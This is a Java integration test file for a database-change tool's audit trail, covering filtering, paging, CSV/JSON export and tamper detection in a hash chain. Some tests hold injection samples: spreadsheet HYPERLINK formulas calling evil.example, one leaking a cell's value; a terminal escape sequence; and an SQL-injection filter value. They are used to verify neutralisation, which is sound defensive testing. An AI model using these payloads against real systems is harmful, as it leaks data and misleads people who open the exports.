package io.tollgate.engine.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.mockito.Mockito.mock;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import com.zaxxer.hikari.HikariDataSource;
import io.tollgate.engine.InvalidRequestException;
import io.tollgate.engine.TestClock;
import io.tollgate.engine.audit.internal.AuditAnchors;
import io.tollgate.engine.audit.internal.AuditChain;
import io.tollgate.engine.audit.internal.AuditFacets;
import io.tollgate.engine.audit.internal.AuditForwarding;
import io.tollgate.engine.audit.internal.AuditSealer;
import io.tollgate.engine.permission.Permissions;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.jdbc.datasource.DataSourceTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;

/**
 * The trail on the machine's MariaDB, in a database of its own (Flyway's migrations, no application context): the
 * filters and paging, the export (CSV and JSON Lines with hashes, filters and anchors), and the chain: two threads
 * appending while two sealers run keep one chain; an edited row, a deleted row, a chain cut short after an anchor and
 * a chain rewritten whole (head included) are all named.
 */
class AuditTrailMariaDbIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static AuditTestDatabase database;
    private static HikariDataSource dataSource;

    JdbcTemplate jdbc;
    TestClock clock;
    AuditTrail trail;
    AuditSealer sealer;
    AuditSearch search;
    AuditAnchors anchors;
    AuditExport export;
    TransactionTemplate tx;

    @BeforeAll
    static void database() throws Exception {
        database = new AuditTestDatabase();
        dataSource = database.dataSource;
    }

    @AfterAll
    static void drop() throws Exception {
        database.drop();
    }

    @BeforeEach
    void trail() {
        jdbc = new JdbcTemplate(dataSource);
        jdbc.update("DELETE FROM audit_entry");
        jdbc.update("DELETE FROM audit_anchor");
        jdbc.update("UPDATE audit_chain_head SET last_seq = 0, last_hash = ? WHERE id = 1", AuditChain.GENESIS);
        clock = new TestClock(Instant.parse("2026-11-30T10:00:00Z"));
        Permissions permissions = mock(Permissions.class);
        trail = new AuditTrail(jdbc, permissions, clock, new AuditFacets());
        sealer = new AuditSealer(jdbc, new AuditForwarding(false));
        search = new AuditSearch(jdbc, permissions);
        anchors = new AuditAnchors(jdbc, clock);
        export = new AuditExport(jdbc, permissions, trail, anchors, clock, sealer);
        tx = new TransactionTemplate(new DataSourceTransactionManager(dataSource));
    }

    private void sealAll() {
        while (tx.execute(s -> sealer.sealSome()) == AuditSealer.BATCH) {
            // a backlog
        }
    }

    private void seedTicketsAndInstances() {
        String suffix = UUID.randomUUID().toString().substring(0, 8);
        jdbc.update("DELETE FROM sql_ticket_event");
        jdbc.update("DELETE FROM sql_ticket");
        jdbc.update("DELETE FROM target_instance");
        instance("orders-prod", "PROD");
        instance("orders-dev", "DEV");
        ticket("T-1", "orders-prod", "shop", "UPDATE orders SET state = 'PAID' WHERE id = 7");
        ticket("T-2", "orders-dev", "shop", "DELETE FROM carts WHERE created < NOW() - INTERVAL 1 DAY");
        assertThat(suffix).isNotEmpty();
    }

    private void instance(String name, String environment) {
        jdbc.update("INSERT INTO target_instance (id, name, host, port, username, password_cipher, environment,"
                + " read_only, reviewer_group, updated_by) VALUES (?, ?, 'db', 3306, 'u', 'x', ?, false, 'reviewer',"
                + " 'dba')", UUID.randomUUID().toString(), name, environment);
    }

    private void ticket(String id, String instance, String database, String sql) {
        jdbc.update("INSERT INTO sql_ticket (ticket_id, title, instance_name, database_name, sql_text, reason,"
                + " submitter, execution_mode, status, statement_count, abort_requested, submitted_at, updated_at)"
                + " VALUES (?, 't', ?, ?, ?, 'r', 'engineer', 'NOW', 'SUBMITTED', 1, false, NOW(6), NOW(6))",
                id, instance, database, sql);
    }

    private void record(String kind, String actor, String type, String subject, String summary,
                        Map<String, Object> payload) {
        trail.record(new AuditEvent(kind, actor, type, subject, summary, payload), "10.0.0.1");
        clock.advance(Duration.ofMinutes(1));
    }

    private void seedHistory() {
        seedTicketsAndInstances();
        record("ticket.submitted", "engineer", "ticket", "T-1", "ticket T-1 submitted", Map.of("detail", "pay it"));
        record("ticket.approved", "reviewer", "ticket", "T-1", "ticket T-1 approved: looks fine",
                Map.of("detail", "looks fine"));
        record("ticket.submitted", "engineer", "ticket", "T-2", "ticket T-2 submitted", Map.of());
        record("ticket.rejected", "reviewer", "ticket", "T-2", "ticket T-2 rejected: no WHERE on carts_100%",
                Map.of("detail", "no WHERE on carts_100%"));
        record("instance.changed", "dba", "instance", "orders-prod", "instance orders-prod changed", Map.of());
        clock.advance(Duration.ofDays(1));
        record("sign-in.failed", "mallory", "account", "mallory", "failed sign-in as mallory", Map.of());
        record("deployment.refused", "process-owner", "deployment", "d-1", "deployment refused", Map.of());
        sealAll();
    }

    private List<String> kinds(AuditFilter filter) {
        return search.page(filter, null, 0, 100).stream().map(AuditEntry::kind).toList();
    }

    @Test
    void everyFilterNarrowsTheNewestFirstPage() {
        seedHistory();
        assertThat(kinds(AuditFilter.ALL)).containsExactly("deployment.refused", "sign-in.failed", "instance.changed",
                "ticket.rejected", "ticket.submitted", "ticket.approved", "ticket.submitted");
        assertThat(kinds(AuditFilter.of(null, null, "reviewer", null, null, null, null, null, null, null)))
                .containsExactly("ticket.rejected", "ticket.approved");
        assertThat(kinds(AuditFilter.of(null, null, null, "ticket", null, null, null, null, null, null)))
                .hasSize(4).allMatch(k -> k.startsWith("ticket."));
        assertThat(kinds(AuditFilter.of(null, null, null, "ticket.submitted", null, null, null, null, null, null)))
                .hasSize(2);
        assertThat(kinds(AuditFilter.of(null, null, null, null, "T-2", null, null, null, null, null)))
                .containsExactly("ticket.rejected", "ticket.submitted");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, "orders-prod", null, null, null, null)))
                .containsExactly("instance.changed", "ticket.approved", "ticket.submitted");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, "orders-dev", "shop", null, null, null)))
                .containsExactly("ticket.rejected", "ticket.submitted");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, "prod", null, null)))
                .containsExactly("instance.changed", "ticket.approved", "ticket.submitted");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, "refused", null)))
                .containsExactly("deployment.refused", "ticket.rejected");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, "failed", null)))
                .containsExactly("sign-in.failed");
        // the day of 2026-11-30 only, then from a moment on
        assertThat(kinds(AuditFilter.of("2026-11-30", "2026-11-30", null, null, null, null, null, null, null, null)))
                .hasSize(5);
        assertThat(kinds(AuditFilter.of("2026-12-01T00:00:00Z", null, null, null, null, null, null, null, null,
                null))).containsExactly("deployment.refused", "sign-in.failed");
        // free text: a comment (with a LIKE wildcard taken literally, any case), and the SQL of the ticket
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null, "CARTS_100%")))
                .containsExactly("ticket.rejected");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null, "carts_1000")))
                .isEmpty();
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null,
                "set state = 'paid'"))).containsExactly("ticket.approved", "ticket.submitted");
    }

    @Test
    void anEntryAboutATicketOrInstanceNotOnRecordIsWrittenWithoutFacets() {
        // the facets are read by the entry's own insert: a subject not found still writes its one entry
        record("ticket.submitted", "engineer", "ticket", "T-nowhere", "ticket T-nowhere submitted", Map.of());
        record("instance.changed", "dba", "instance", "gone", "instance gone changed", Map.of());
        assertThat(jdbc.queryForList("SELECT CONCAT_WS('|', subject_id, instance_name, database_name, environment,"
                + " outcome) FROM audit_entry ORDER BY id", String.class))
                .containsExactly("T-nowhere|ok", "gone|gone|ok");
    }

    @Test
    void freeTextAnsweredByTheFullTextIndexesFindsWhatTheScanFinds() {
        seedHistory();
        // as for a rare text on a million entries: the FULLTEXT indexes answer
        search.freeTextLimits(0, 0);
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null, "CARTS_100%")))
                .containsExactly("ticket.rejected");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null, "carts_1000")))
                .isEmpty();
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null,
                "set state = 'paid'"))).containsExactly("ticket.approved", "ticket.submitted");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null, "LOOKS FINE")))
                .as("any case, in the payload and summary").containsExactly("ticket.approved");
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null, "deleTE FROM cart")))
                .as("a word's beginning, in a ticket's SQL").containsExactly("ticket.rejected", "ticket.submitted");
        assertThat(kinds(AuditFilter.of(null, null, "reviewer", null, null, null, null, null, null, "carts")))
                .as("with the other filters").containsExactly("ticket.rejected");
        assertThat(search.countUpTo("auditor", AuditFilter.of(null, null, null, null, null, null, null, null, null,
                "submitted"), 100)).isEqualTo(2);
        // the index holds words: the middle of one is found by the scan only (a short trail, a frequent text, H2)
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null, "arts_100")))
                .isEmpty();
        search.freeTextLimits(50_000, 200_000);
        assertThat(kinds(AuditFilter.of(null, null, null, null, null, null, null, null, null, "arts_100")))
                .containsExactly("ticket.rejected");
    }

    @Test
    void pagesFollowEachOtherWithoutGapsAndTheCountStopsAtItsCap() {
        for (int i = 0; i < 25; i++) {
            record("sign-in", "user" + (i % 3), "account", "user" + (i % 3), "signed in " + i, Map.of());
        }
        List<Long> byBefore = new ArrayList<>();
        Long before = null;
        List<AuditEntry> page;
        do {
            page = search.page(AuditFilter.ALL, before, 0, 10);
            page.forEach(e -> byBefore.add(e.id()));
            before = page.isEmpty() ? null : page.get(page.size() - 1).id();
        } while (page.size() == 10);
        List<Long> byOffset = new ArrayList<>();
        for (int offset = 0; offset < 30; offset += 7) {
            search.page(AuditFilter.ALL, null, offset, 7).forEach(e -> byOffset.add(e.id()));
        }
        assertThat(byBefore).hasSize(25).isSortedAccordingTo((a, b) -> Long.compare(b, a)).isEqualTo(byOffset);
        assertThat(search.countUpTo("auditor", AuditFilter.ALL, 10)).isEqualTo(10);
        assertThat(search.countUpTo("auditor", AuditFilter.ALL, 1000)).isEqualTo(25);
        assertThat(search.countUpTo("auditor", AuditFilter.of(null, null, "user1", null, null, null, null, null, null,
                null), 1000)).isEqualTo(8);
    }

    @Test
    void aTimeRangeFindsEntriesWhoseIdsAreOutOfTimeOrder() {
        // written in this order, but the second read the clock 50 s earlier (two writers racing, exaggerated)
        record("sign-in", "first", "account", "first", "first", Map.of());          // T
        clock.advance(Duration.ofSeconds(-110));
        record("sign-in", "second", "account", "second", "second", Map.of());       // T - 50 s, larger id
        clock.advance(Duration.ofHours(2));
        record("sign-in", "third", "account", "third", "third", Map.of());          // T + 2 h
        Instant t = Instant.parse("2026-11-30T10:00:00Z");
        assertThat(actors(t.minusSeconds(50), null)).containsExactly("third", "second", "first");
        assertThat(actors(t.minusSeconds(50), t)).containsExactly("second");
        assertThat(actors(t, t.plusSeconds(1))).containsExactly("first");
        assertThat(actors(t.minusSeconds(49), t.plusSeconds(3600))).containsExactly("first");
        assertThat(actors(null, t.plusSeconds(3600))).containsExactly("second", "first");
        assertThat(actors(t.plusSeconds(3 * 3600), null)).isEmpty();
        assertThat(actors(null, t.minusSeconds(3600))).isEmpty();
        assertThat(search.countUpTo("auditor", new AuditFilter(t.minusSeconds(50), t.plusSeconds(1), null, null,
                null, null, null, null, null, null), 100)).isEqualTo(2);
    }

    private List<String> actors(Instant from, Instant to) {
        return search.page(new AuditFilter(from, to, null, null, null, null, null, null, null, null), null, 0, 100)
                .stream().map(AuditEntry::actor).toList();
    }

    @Test
    void badFiltersAreRefusedWithTheirReason() {
        assertThatThrownBy(() -> AuditFilter.of("yesterday", null, null, null, null, null, null, null, null, null))
                .isInstanceOf(InvalidRequestException.class).hasMessageContaining("from must be a day");
        assertThatThrownBy(() -> AuditFilter.of("2026-12-02", "2026-12-01", null, null, null, null, null, null, null,
                null)).isInstanceOf(InvalidRequestException.class).hasMessageContaining("holds nothing: 'from' must come before 'to'");
        assertThatThrownBy(() -> AuditFilter.of(null, null, null, "x' OR 1=1", null, null, null, null, null, null))
                .isInstanceOf(InvalidRequestException.class).hasMessageContaining("kind must be");
        assertThatThrownBy(() -> AuditFilter.of(null, null, null, null, null, null, null, "staging", null, null))
                .isInstanceOf(InvalidRequestException.class).hasMessageContaining("environment must be one of");
        assertThatThrownBy(() -> AuditFilter.of(null, null, null, null, null, null, null, null, "maybe", null))
                .isInstanceOf(InvalidRequestException.class).hasMessageContaining("outcome must be one of");
        assertThatThrownBy(() -> search.page(AuditFilter.ALL, null, 0, 501))
                .isInstanceOf(InvalidRequestException.class);
    }

    @Test
    void anExportCarriesItsFiltersTheHashesAndTheAnchorsAndIsItselfOnTheTrail() throws Exception {
        seedHistory();
        clock.advance(Duration.ofDays(1));
        assertThat(anchors.anchorFinishedDays()).hasSize(2);
        AuditFilter reviewer = AuditFilter.of("2026-11-30", "2026-11-30", "reviewer", null, null, null, null, null,
                null, null);

        ByteArrayOutputStream jsonl = new ByteArrayOutputStream();
        export.start("auditor", reviewer, AuditExport.Format.JSONL, "10.0.0.9").to(jsonl);
        List<JsonNode> lines = new ArrayList<>();
        for (String line : jsonl.toString(StandardCharsets.UTF_8).split("\n")) {
            lines.add(JSON.readTree(line));
        }
        assertThat(lines.get(0).get("record").asText()).isEqualTo("export");
        assertThat(lines.get(0).get("filters").get("actor").asText()).isEqualTo("reviewer");
        assertThat(lines.get(0).get("filters").get("from").asText()).isEqualTo("2026-11-30T00:00:00Z");
        List<JsonNode> entries = lines.stream().filter(l -> l.get("record").asText().equals("entry")).toList();
        assertThat(entries).extracting(e -> e.get("kind").asText()).containsExactly("ticket.approved",
                "ticket.rejected");
        assertThat(entries).allSatisfy(e -> {
            assertThat(e.get("entry_hash").asText()).hasSize(64);
            assertThat(e.get("prev_hash").asText()).hasSize(64);
        });
        JsonNode anchor = lines.get(lines.size() - 1);
        assertThat(anchor.get("record").asText()).isEqualTo("anchor");
        assertThat(anchor.get("day").asText()).isEqualTo("2026-11-30");
        assertThat(anchor.get("seq").asLong()).isEqualTo(5);

        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        export.start("auditor", reviewer, AuditExport.Format.CSV, "10.0.0.9").to(csv);
        String text = csv.toString(StandardCharsets.UTF_8);
        assertThat(text.lines().findFirst().orElseThrow()).startsWith("# {\"record\":\"export\"")
                .contains("\"actor\":\"reviewer\"");
        assertThat(text.lines().reduce((a, b) -> b).orElseThrow()).contains("\"record\":\"anchor\"")
                .contains("2026-11-30");
        CsvMapper reader = new CsvMapper();
        reader.enable(CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<Map<String, String>> rows = reader.readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader().withComments()).readValues(new StringReader(text))) {
            List<Map<String, String>> all = rows.readAll();
            assertThat(all).extracting(r -> r.get("kind")).containsExactly("ticket.approved", "ticket.rejected");
            // the comment with a comma and a percent sign comes back as written
            assertThat(all.get(1).get("summary")).isEqualTo("ticket T-2 rejected: no WHERE on carts_100%");
            assertThat(all.get(1).get("entry_hash")).hasSize(64);
        }

        List<AuditEntry> exports = search.page(AuditFilter.of(null, null, null, "audit.exported", null, null, null,
                null, null, null), null, 0, 10);
        assertThat(exports).hasSize(2).allSatisfy(e -> {
            assertThat(e.actor()).isEqualTo("auditor");
            assertThat(e.sourceAddress()).isEqualTo("10.0.0.9");
            assertThat(e.payload()).contains("\"actor\":\"reviewer\"");
        });
    }

    /**
     * A name typed on the sign-in page is an actor in the trail: as a spreadsheet formula or a terminal's escape
     * sequence it reached the CSV as written. The CSV neutralises both; the JSON Lines keep the value exactly, and
     * every exported entry is sealed (an export right after a write read one with no hashes).
     */
    @Test
    void theCsvExportOpensSafelyInASpreadsheetAndEveryExportedEntryIsSealed() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/x\",\"verify\")";
        String escapes = "\u001b[2J\u001b[31mroot";
        trail.record(new AuditEvent("sign-in.failed", formula, "account", formula, "sign-in failed for " + formula,
                Map.of()), "10.0.0.7");
        trail.record(new AuditEvent("sign-in.failed", escapes, "account", escapes, "sign-in failed", Map.of()),
                "10.0.0.7");
        AuditFilter failures = AuditFilter.of(null, null, null, "sign-in.failed", null, null, null, null, null, null);

        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        export.start("auditor", failures, AuditExport.Format.CSV, "10.0.0.9").to(csv);
        String text = csv.toString(StandardCharsets.UTF_8);
        assertThat(text).doesNotContain("\u001b").contains("\\u001b[2J\\u001b[31mroot");
        CsvMapper reader = new CsvMapper();
        try (MappingIterator<Map<String, String>> rows = reader.readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader().withComments()).readValues(new StringReader(text))) {
            List<Map<String, String>> all = rows.readAll();
            assertThat(all).extracting(r -> r.get("actor")).contains("'" + formula);
            assertThat(all).allSatisfy(r -> {
                assertThat(r.get("actor")).doesNotStartWith("=");
                assertThat(r.get("subject_id")).doesNotStartWith("=");
                assertThat(r.get("entry_hash")).as("sealed").hasSize(64);
            });
        }

        ByteArrayOutputStream jsonl = new ByteArrayOutputStream();
        export.start("auditor", failures, AuditExport.Format.JSONL, "10.0.0.9").to(jsonl);
        List<String> actors = new ArrayList<>();
        for (String line : jsonl.toString(StandardCharsets.UTF_8).split("\n")) {
            JsonNode record = JSON.readTree(line);
            if (record.get("record").asText().equals("entry")) {
                actors.add(record.get("actor").asText());
                assertThat(record.get("entry_hash").asText()).hasSize(64);
            }
        }
        assertThat(actors).contains(formula, escapes);
    }

    /**
     * The CSV's comment lines (the export's header with its filters, the anchors) are not cells a spreadsheet reads as
     * a formula: a filter typed by whoever handed the auditor a link, {@code text=a,=HYPERLINK(...)}, split the header
     * line at its comma into a cell that began with {@code =} (a helper's finding). Commas and semicolons inside the
     * line's values are written as JSON escapes, so its cells split only where the JSON's own punctuation is, and the
     * line still reads back as the same JSON.
     */
    @Test
    void theCsvHeaderLineCarriesNoCellASpreadsheetReadsAsAFormula() throws Exception {
        String typed = "a,=HYPERLINK(\"http://evil.example/?\"&A3;\"click\");+SUM(1)";
        AuditFilter filter = AuditFilter.of(null, null, null, null, null, null, null, null, null, typed);
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        export.start("auditor", filter, AuditExport.Format.CSV, "10.0.0.9").to(csv);
        String header = csv.toString(StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
        assertThat(header).startsWith("# {");
        for (String separator : new String[] {",", ";", "\t"}) {
            for (String cell : header.split(separator)) {
                String value = cell.strip().replaceFirst("^\"+", "");
                assertThat(value).as("a cell of the header split at '%s': %s", separator, cell)
                        .doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@");
            }
        }
        assertThat(JSON.readTree(header.substring(2)).path("filters").path("text").asText()).isEqualTo(typed);
    }

    @Test
    void aBacklogIsSealedInOrderAcrossTheStatementsOfOneSeal() {
        int backlog = 2 * AuditSealer.SEALS_A_STATEMENT + 7;
        for (int i = 0; i < backlog; i++) {
            recordOne();
        }
        Integer sealed = tx.execute(s -> sealer.sealSome());
        assertThat(sealed).isEqualTo(backlog);

        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM audit_entry WHERE entry_hash IS NULL", Long.class))
                .isZero();
        assertThat(jdbc.queryForList("SELECT seq FROM audit_entry ORDER BY id", Long.class))
                .isEqualTo(java.util.stream.LongStream.rangeClosed(1, backlog).boxed().toList());
        AuditVerification result = trail.verify();
        assertThat(result.intact()).as(result.describe()).isTrue();
        assertThat(result.checked()).isEqualTo(backlog);
    }

    @Test
    void twoThreadsAppendingWhileTwoSealersRunKeepOneChain() throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(4);
        CountDownLatch go = new CountDownLatch(1);
        try {
            List<Future<?>> work = new ArrayList<>();
            for (int t = 0; t < 2; t++) {
                int thread = t;
                work.add(pool.submit(() -> {
                    go.await();
                    for (int i = 0; i < 300; i++) {
                        int n = i;
                        tx.executeWithoutResult(s -> trail.record(new AuditEvent("sign-in", "user" + thread,
                                "account", "user" + thread, "thread " + thread + " entry " + n, Map.of()), null));
                    }
                    return null;
                }));
            }
            for (int t = 0; t < 2; t++) {
                work.add(pool.submit(() -> {
                    go.await();
                    for (int i = 0; i < 40; i++) {
                        tx.execute(s -> sealer.sealSome());
                    }
                    return null;
                }));
            }
            go.countDown();
            for (Future<?> f : work) {
                f.get(2, TimeUnit.MINUTES);
            }
        } finally {
            pool.shutdownNow();
        }
        sealAll();
        AuditVerification result = trail.verify();
        assertThat(result.intact()).as(result.describe()).isTrue();
        assertThat(result.checked()).isEqualTo(600);
        assertThat(jdbc.queryForObject("SELECT COUNT(DISTINCT seq) FROM audit_entry", Long.class)).isEqualTo(600);
    }

    /**
     * An auditor verifying while entries are appended and sealed sees an intact trail every time. The verification
     * read the entries first and the head last: a sealer committing in between made the intact trail look "cut short
     * at the end" (seen in CI on the history page).
     */
    @Test
    void aVerificationWhileSealersRunFindsTheTrailIntact() throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(2);
        java.util.concurrent.atomic.AtomicBoolean stop = new java.util.concurrent.atomic.AtomicBoolean();
        try {
            Future<?> writing = pool.submit(() -> {
                for (int i = 0; !stop.get(); i++) {
                    int n = i;
                    tx.executeWithoutResult(s -> trail.record(new AuditEvent("sign-in", "writer", "account",
                            "writer", "entry " + n, Map.of()), null));
                    tx.execute(s -> sealer.sealSome());
                }
                return null;
            });
            List<String> broken = new ArrayList<>();
            for (int i = 0; i < 200; i++) {
                AuditVerification result = trail.verify();
                if (!result.intact()) {
                    broken.add(result.describe());
                }
            }
            stop.set(true);
            writing.get(1, TimeUnit.MINUTES);
            assertThat(broken).as("verifications that called the intact trail broken").isEmpty();
        } finally {
            stop.set(true);
            pool.shutdownNow();
        }
        sealAll();
        assertThat(trail.verify().intact()).isTrue();
    }

    @Test
    void anEntryWrittenBeyondTheHeadIsNamed() {
        seedHistory();
        sealAll();
        Map<String, Object> head = jdbc.queryForMap("SELECT last_seq, last_hash FROM audit_chain_head WHERE id = 1");
        long next = ((Number) head.get("last_seq")).longValue() + 1;
        recordOne();
        // sealed by hand with a correct hash, the head left where it was
        long id = jdbc.queryForObject("SELECT id FROM audit_entry WHERE entry_hash IS NULL", Long.class);
        jdbc.update("UPDATE audit_entry SET seq = ?, prev_hash = ?, entry_hash = ? WHERE id = ?", next,
                head.get("last_hash"), "f".repeat(64), id);
        AuditVerification forged = trail.verify();
        assertThat(forged.intact()).isFalse();
        assertThat(forged.brokenSeq()).isEqualTo(next);
        assertThat(forged.problem()).contains("beyond the chain's head");
    }

    private void recordOne() {
        tx.executeWithoutResult(s -> trail.record(new AuditEvent("sign-in", "forger", "account", "forger",
                "one more", Map.of()), null));
    }

    @Test
    void anEditedRowADeletedRowAndAFacetChangedAreNamed() {
        seedHistory();
        assertThat(trail.verify().intact()).isTrue();
        long third = jdbc.queryForObject("SELECT id FROM audit_entry WHERE seq = 3", Long.class);

        jdbc.update("UPDATE audit_entry SET summary = 'nothing happened' WHERE id = ?", third);
        AuditVerification edited = trail.verify();
        assertThat(edited.intact()).isFalse();
        assertThat(edited.brokenEntryId()).isEqualTo(third);
        assertThat(edited.problem()).contains("content was changed");

        jdbc.update("UPDATE audit_entry SET summary = 'ticket T-2 submitted', instance_name = 'elsewhere'"
                + " WHERE id = ?", third);
        assertThat(trail.verify().brokenEntryId()).as("a facet is hashed too").isEqualTo(third);

        jdbc.update("DELETE FROM audit_entry WHERE id = ?", third);
        AuditVerification deleted = trail.verify();
        assertThat(deleted.intact()).isFalse();
        assertThat(deleted.brokenSeq()).isEqualTo(4);
        assertThat(deleted.problem()).contains("place 3 is missing");
    }

    @Test
    void anchorsRevealAChainCutShortOrRewrittenWholeWithItsHead() {
        seedHistory();
        clock.advance(Duration.ofDays(1));
        assertThat(anchors.anchorFinishedDays()).hasSize(2);
        assertThat(anchors.anchorFinishedDays()).as("once a day").isEmpty();
        AuditVerification intact = trail.verify();
        assertThat(intact.intact()).as(intact.describe()).isTrue();
        assertThat(intact.anchorsChecked()).isEqualTo(2);

        // cut the last two entries and set the head back to match: only the anchor of 2026-12-01 notices
        Map<String, Object> fifth = jdbc.queryForMap("SELECT seq, entry_hash FROM audit_entry WHERE seq = 5");
        jdbc.update("DELETE FROM audit_entry WHERE seq > 5");
        jdbc.update("UPDATE audit_chain_head SET last_seq = 5, last_hash = ? WHERE id = 1", fifth.get("entry_hash"));
        AuditVerification cut = trail.verify();
        assertThat(cut.intact()).isFalse();
        assertThat(cut.problem()).contains("the anchor of 2026-12-01 names place 7");

        // rewrite the whole chain (every hash recomputed, head too) after editing entry 2
        jdbc.update("DELETE FROM audit_anchor WHERE anchor_day = '2026-12-01'");
        long second = jdbc.queryForObject("SELECT id FROM audit_entry WHERE seq = 2", Long.class);
        jdbc.update("UPDATE audit_entry SET summary = 'ticket T-1 approved' WHERE id = ?", second);
        jdbc.update("UPDATE audit_entry SET seq = NULL, prev_hash = NULL, entry_hash = NULL");
        jdbc.update("UPDATE audit_chain_head SET last_seq = 0, last_hash = ? WHERE id = 1", AuditChain.GENESIS);
        sealAll();
        AuditVerification rewritten = trail.verify();
        assertThat(rewritten.intact()).isFalse();
        assertThat(rewritten.brokenSeq()).isEqualTo(5);
        assertThat(rewritten.problem()).contains("the anchor of 2026-11-30").contains("rewritten");

        // an anchor an auditor kept is checked too
        jdbc.update("DELETE FROM audit_anchor");
        assertThat(trail.verify().intact()).isTrue();
        AuditVerification external = trail.verify(new AuditAnchor(null, 5, (String) fifth.get("entry_hash")));
        assertThat(external.intact()).isFalse();
        assertThat(external.problem()).contains("the given anchor (place 5)");
    }
}
